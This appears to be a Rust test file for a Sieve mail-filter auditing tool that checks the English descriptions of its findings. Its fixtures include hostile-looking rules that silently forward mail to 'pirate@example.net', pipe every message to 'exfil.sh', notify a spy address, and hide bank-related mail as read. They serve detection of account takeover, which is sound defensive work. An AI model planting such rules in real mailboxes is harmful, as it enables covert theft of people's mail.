fn english_conditions_after_elsif_and_stop() {
    let script = r#"if header :contains "subject" "newsletter" {
    fileinto "Lettres";
} elsif size :over 1M {
    redirect "gros@example.net";
} else {
    redirect "reste@example.net";
}
"#;
    let findings = analyse(script, true);
    assert_contains(
        &english(&findings[0]).detail,
        "line 4: messages larger than 1 MB and whose subject does not contain “newsletter” are forwarded to gros@example.net.",
    );
    assert_contains(
        &english(&findings[1]).detail,
        "line 6: all messages except those whose subject contains “newsletter” or larger than 1 MB are forwarded to reste@example.net.",
    );
    let f = single("keep;\nstop;\nredirect \"pirate@example.net\";");
    assert_contains(&english(&f).detail, "A “stop” command placed before it");
}

#[test]
fn english_variables_and_run_time_values() {
    let script = r#"require ["variables"];
if header :contains "subject" "a" { set "alt" "a@example.net"; } else { set "alt" "b@example.org"; }
redirect "${alt}";
if header :matches "subject" "* *" { redirect "${1}@${2}"; }
"#;
    let findings = analyse(script, true);
    assert_contains(
        &english(&findings[0]).detail,
        "are forwarded to a@example.net or b@example.org.",
    );
    let en = english(&findings[1]);
    assert_contains(
        &en.detail,
        "are forwarded to [value only known when the message arrives]@[value only known when the message arrives].",
    );
    assert_contains(
        &en.detail,
        "only known when a message arrives (it is a variable)",
    );
    assert!(!en.detail.contains("valeur"), "{}", en.detail);
}

#[test]
fn english_for_every_other_kind_of_finding() {
    let f = single("if header :contains \"from\" \"dgfip\" { discard; }");
    assert_eq!(
        english(&f).title,
        "Messages deleted automatically, without going through the trash"
    );
    assert_contains(
        &english(&f).detail,
        "line 1: messages whose sender contains “dgfip” are deleted without being delivered or put in the trash.",
    );
    let f = single(
        "require [\"fileinto\", \"imap4flags\"];\nif body :contains [\"RIB\", \"virement\"] {\n    addflag \"\\\\Seen\";\n    fileinto \"RSS Feeds\";\n}\n",
    );
    assert_contains(
        &english(&f).detail,
        "messages whose body contains “RIB” or “virement” are moved to the folder “RSS Feeds” (a barely visible folder that nobody looks at) and marked as read.",
    );
    assert_contains(&english(&f).detail, "signature of an account takeover");
    let f = single(
        "require \"vacation\";\nvacation :days 7 :subject \"Absence\" :addresses [\"secretariat@mairie-exemple.fr\"] \"Back on 3 March.\";",
    );
    assert_eq!(
        english(&f).title,
        "Automatic reply (out-of-office message) set up"
    );
    assert_contains(
        &english(&f).detail,
        "all messages get an automatic reply (subject “Absence”; at most one reply every 7 days to each sender; addresses it answers for: “secretariat@mairie-exemple.fr”; text: “Back on 3 March.”).",
    );
    let f = single("vacation :subject \"Changement\" \"Please note our new bank details.\";");
    assert_eq!(english(&f).title, "Automatic reply mentioning bank details");
    let f = single(
        "if header :contains \"from\" \"banque\" { notify :message \"Nouveau\" \"mailto:espion@example.net?subject=x\"; }",
    );
    assert_contains(
        &english(&f).detail,
        "messages whose sender contains “banque” trigger a notification sent to espion@example.net (message: “Nouveau”).",
    );
    let f = single("require \"vnd.dovecot.pipe\";\npipe \"exfil.sh\" [\"-q\"];");
    assert_contains(
        &english(&f).detail,
        "all messages are handed to the external program “exfil.sh” (arguments: “-q”).",
    );
    let f = single("require \"include\";\ninclude :personal \"transferts\";");
    assert_contains(&english(&f).detail, "personal script “transferts”");
    let f = single_with("redirect \"pirate@example.net\";", false);
    assert_contains(
        &english(&f).detail,
        "The filter “roundcube” (inactive), line 1",
    );
    assert_contains(&english(&f).detail, "switched back on at any time");
    let f = single(
        "require [\"fileinto\"];\n# rule:[pause]\nif false # header :contains \"from\" \"tresorerie\"\n{\n\tredirect \"pirate@example.net\";\n}\n",
    );
    assert_contains(&english(&f).detail, "This rule is paused");
    assert_contains(
        &english(&f).detail,
        "Name of the rule in the webmail: “pause”.",
    );
}

#[test]
fn english_parse_errors_and_truncation() {
    let f = single(
        "require \"fileinto\";\nif header :contains \"subject\" \"x\" {\n  fileinto \"Trash\"\n}\n",
    );
    let en = english(&f);
    assert_eq!(
        en.title,
        "Unreadable filter: the Sieve script contains an error"
    );
    assert_contains(
        &en.detail,
        "The filter “roundcube” (active), line 4, column 1: the script cannot be read (found “}” where “;” or “{” was expected).",
    );
    assert_contains(&en.remediation, "look at line 4");
    let mut script = String::from("require [\"fileinto\"];\n");
    for _ in 0..300 {
        script.push_str("fileinto :copy \"Trash\";\n");
    }
    let findings = analyse(&script, true);
    let en = english(&findings[200]);
    assert_eq!(en.title, "Too many rules to report: shortened list");
    assert_contains(
        &en.detail,
        "contains 300 actions to report; only the 200 most serious ones are listed.",
    );
}

/// Conditions and actions assembled by the property test below.
const CONDITIONS: &[&str] = &[
    "true",
    "false",
    "header :contains \"subject\" [\"facture\", \"virement\"]",
    "address :domain :is \"from\" \"mairie-exemple.fr\"",
    "envelope :is \"to\" \"a@b.fr\"",
    "size :over 1M",
    "exists \"X-Spam-Flag\"",
    "header :contains \"X-Spam-Flag\" \"YES\"",
    "body :text :contains \"iban\"",
    "spamtest :value \"ge\" \"6\"",
    "anyof(header :is \"from\" \"x@y.fr\", size :under 10K)",
    "allof(exists \"a\", not exists \"b\")",
    "currentdate :value \"ge\" \"date\" \"2024-01-01\"",
    "hasflag \"\\\\Flagged\"",
    "frobnicate \"x\"",
];
const ACTIONS: &[&str] = &[
    "redirect \"pirate@example.net\";",
    "redirect :copy \"${dest}\";",
    "redirect \"${1}@example.net\";",
    "discard;",
    "fileinto \"Trash\";",
    "addflag \"\\\\Seen\"; fileinto \"RSS Feeds\";",
    "fileinto :copy \"Junk\";",
    "vacation :days 3 :subject \"${subject}\" \"Absent.\";",
    "notify :message \"m\" \"mailto:x@example.net\";",
    "notify \"xmpp:x@example.net\";",
    "pipe \"p\" [\"a\", \"${dest}\"];",
    "include :global \"g\";",
    "stop;",
    "keep;",
];

/// One `if` of the generated scripts: a condition, whether it is negated, an action, and
/// whether an `else` with a second action follows.
fn rule() -> impl Strategy<Value = (usize, bool, usize, Option<usize>)> {
    (
        0..CONDITIONS.len(),
        any::<bool>(),
        0..ACTIONS.len(),
        prop::option::of(0..ACTIONS.len()),
    )
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn every_finding_of_a_generated_script_has_english_words(
        rules in prop::collection::vec(rule(), 1..8),
        nested in any::<bool>(),
        active in any::<bool>(),
    ) {
        let mut script = String::from(
            "require [\"fileinto\", \"copy\", \"variables\", \"imap4flags\", \"vacation\", \"enotify\"];\nif header :is \"subject\" \"a\" { set \"dest\" \"a@example.net\"; set \"subject\" \"Absent\"; } else { set \"dest\" \"b@example.org\"; }\n",
        );
        let mut closing = String::new();
        for (condition, negated, action, otherwise) in rules {
            let not = if negated { "not " } else { "" };
            script.push_str(&format!("if {not}{} {{\n  {}\n", CONDITIONS[condition], ACTIONS[action]));
            match (otherwise, nested) {
                (Some(other), _) => script.push_str(&format!("}} else {{\n  {}\n}}\n", ACTIONS[other])),
                (None, true) => closing.push_str("}\n"),
                (None, false) => script.push_str("}\n"),
            }
        }
        script.push_str(&closing);
        let findings = analyse_script(&ScriptSource { name: "prop", active, text: &script }, &ctx());
        for f in &findings {
            assert_english(f);
        }
    }

    #[test]
    fn every_finding_of_sieve_like_text_has_english_words(
        text in "[a-z{}()\\[\\];,:\"#*/\\\\. \n\r0-9KMG$_-]{0,300}",
    ) {
        // Random text may spell French words itself: only the presence and shape of the
        // English words are checked here.
        let findings = analyse_script(&ScriptSource { name: "prop", active: true, text: &text }, &ctx());
        for f in &findings {
            english(f);
        }
    }
}
